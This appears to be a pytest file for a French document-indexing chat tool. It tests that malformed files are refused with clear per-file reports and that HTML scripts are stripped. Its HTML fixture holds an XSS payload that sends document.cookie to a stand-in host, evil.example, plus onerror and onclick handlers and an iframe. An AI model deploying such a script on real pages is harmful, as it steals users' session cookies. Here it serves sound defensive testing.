"""Hostile documents in a corpus: each is refused with a clear per-file report or ingested;
one bad file never stops the others and never corrupts the index."""
from __future__ import annotations

import json
import shutil
import tracemalloc
from pathlib import Path

import pytest

from chat.answer import answer
from chat.web import render_html, render_sources_html
from index.build import build_index
from index.settings import Settings
from index.store import Index
from tests.conftest import CORPUS, FakeEmbedder

SCRIPTED_HTML = (
    "<!doctype html><html><head><title>Sobriété</title>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
    "<body><article><h1>Sobriété numérique</h1>"
    "<p onclick=\"alert(1)\">Le véganisme numérique est une forme de sobriété choisie par des militants.</p>"
    "<p>Il consiste à renoncer aux services qui exploitent les données personnelles.</p>"
    "<img src=x onerror=alert(2)><iframe src=\"https://evil.example\"></iframe>"
    "<script>alert('inline')</script></article></body></html>\n"
)

# (label, file name, bytes, what the report must say, or None when the file is ingested)
DOCUMENTS = [
    ("empty file", "empty.txt", b"", r"empty|no text"),
    ("blank file", "blank.txt", b" \n\t\n  \n", r"no text|blank"),
    ("binary file named .txt", "image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, r"binary|NUL|not a text|format"),
    ("invalid UTF-8", "latin1.txt", "Une phrase écrite en Latin-1, pas en UTF-8, avec des accents.".encode("latin-1"), r"not valid UTF-8"),
    ("UTF-16 without a BOM", "nobom.txt", "Sans BOM, une phrase.".encode("utf-16-le"), r"binary|NUL"),
    ("missing file", "missing.txt", None, r"cannot read|missing|No such file"),
    ("UTF-16 with a BOM", "utf16.txt", "Le véganisme numérique est une idée défendue par des militants du logiciel libre.".encode("utf-16"), None),
    ("UTF-8 with a BOM", "bom.txt", "\ufeffUne phrase en UTF-8 précédée de sa marque d'ordre des octets, bien lue.".encode(), None),
    ("HTML with scripts", "page.html", SCRIPTED_HTML.encode(), None),
    ("HTML with scripts named .txt", "page-as-text.txt", SCRIPTED_HTML.encode(), None),
]


def _corpus_with(tmp_path: Path, files: list[tuple[str, bytes | None]]) -> Path:
    """The real corpus plus one source per file (None: listed but absent)."""
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS, corpus, ignore=shutil.ignore_patterns(".index*", ".cache"))
    manifest = corpus / "sources.toml"
    extra = ""
    for i, (name, data) in enumerate(files):
        if data is not None:
            (corpus / name).write_bytes(data)
        extra += f'\n[[source]]\nid = "doc-{i}"\ntitle = "Document {i}"\nfile = "{name}"\n'
    manifest.chmod(0o644)
    manifest.write_text(manifest.read_text(encoding="utf-8") + extra, encoding="utf-8")
    return corpus


@pytest.fixture(scope="module")
def settings(tmp_path_factory) -> Settings:
    model = tmp_path_factory.mktemp("model")
    (model / "config.json").write_text("{}")
    return Settings(model_dir=model)


@pytest.fixture(scope="module")
def all_at_once(tmp_path_factory, settings):
    """Every hostile document in one corpus with the interview, built once."""
    tmp = tmp_path_factory.mktemp("docs")
    corpus = _corpus_with(tmp, [(name, data) for _, name, data, _ in DOCUMENTS])
    index = build_index(corpus, tmp / "idx", settings, FakeEmbedder(), quiet=True)
    return corpus, tmp / "idx", index


@pytest.mark.parametrize("i,label,name,message", [(i, d[0], d[1], d[3]) for i, d in enumerate(DOCUMENTS)], ids=[d[0] for d in DOCUMENTS])
def test_each_document_is_refused_with_a_clear_report_or_ingested(all_at_once, i, label, name, message):
    _, path, index = all_at_once
    failed = index.meta["ingest"]["failed"]
    sid = f"doc-{i}"
    if message is None:
        assert sid not in failed, failed.get(sid)
        mine = [c for c in index.chunks if c.source_id == sid]
        assert mine and all(index.texts[sid][c.start : c.end] == c.text for c in mine)
    else:
        import re

        assert sid in failed, f"{label} was indexed"
        reason = failed[sid]
        assert re.search(message, reason, re.I), reason
        assert name in reason and "\n" not in reason
        assert not any(c.source_id == sid for c in index.chunks)


def test_one_bad_file_never_stops_the_others_nor_corrupts_the_index(all_at_once, settings):
    corpus, path, index = all_at_once
    interview = [c for c in index.chunks if c.source_id == "contre-sommet-ia-interview"]
    assert len(interview) > 20  # the real document is all there
    loaded = Index.load(path)  # checksums verified
    assert [c.id for c in loaded.chunks] == [c.id for c in index.chunks]
    assert loaded.meta["ingest"]["failed"] == index.meta["ingest"]["failed"]


def test_the_cli_reports_every_bad_file_on_its_own_line(tmp_path, settings, monkeypatch, capsys):
    import chat.cli

    monkeypatch.setattr("index.build.make_embedder", lambda settings, quiet=False: FakeEmbedder())
    bad = [(name, data) for _, name, data, message in DOCUMENTS if message]
    corpus = _corpus_with(tmp_path, bad)
    rc = chat.cli.main(["build", "--corpus", str(corpus), "--model", str(settings.model_dir)])
    err = capsys.readouterr().err
    assert rc != 0 and "Traceback" not in err
    for name, _ in bad:
        lines = [line for line in err.splitlines() if name in line]
        assert len(lines) == 1, (name, err)
    assert Index.load(corpus / ".index").chunks  # the good documents are indexed


def test_scripts_in_html_are_never_indexed_nor_run(all_at_once, settings):
    corpus, _, index = all_at_once
    html_id = f"doc-{[d[0] for d in DOCUMENTS].index('HTML with scripts')}"
    text_id = f"doc-{[d[0] for d in DOCUMENTS].index('HTML with scripts named .txt')}"
    assert "document.cookie" not in index.texts[html_id] and "alert" not in index.texts[html_id]
    assert "véganisme numérique" in index.texts[html_id]
    s = Settings(model_dir=settings.model_dir, min_confidence=0.0, top_k=10)
    ans = answer("véganisme numérique sobriété choisie militants", index, FakeEmbedder(), s)
    assert {html_id, text_id} & {p.source["id"] for p in ans.passages}
    for page in (render_html(ans, index.texts), render_sources_html(ans, index.texts)):
        assert "<script" not in page and "<iframe" not in page and "<img" not in page and "<p onclick" not in page
    json.dumps(ans.to_dict(), ensure_ascii=False)


def test_a_200_mb_document_is_refused_unread_and_the_rest_indexed(tmp_path, settings):
    corpus = _corpus_with(tmp_path, [("huge.txt", b"Une phrase.\n")])
    with open(corpus / "huge.txt", "r+b") as f:
        f.truncate(200_000_000)  # sparse: no disk used
    tracemalloc.start()
    try:
        index = build_index(corpus, tmp_path / "idx", settings, FakeEmbedder(), quiet=True)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    reason = index.meta["ingest"]["failed"]["doc-0"]
    assert "huge.txt is too large (200 MB; the limit is 50 MB" in reason
    assert peak < 120_000_000, f"peak {peak / 1e6:.0f} MB: the 200 MB file was read"
    assert any(c.source_id == "contre-sommet-ia-interview" for c in Index.load(tmp_path / "idx").chunks)
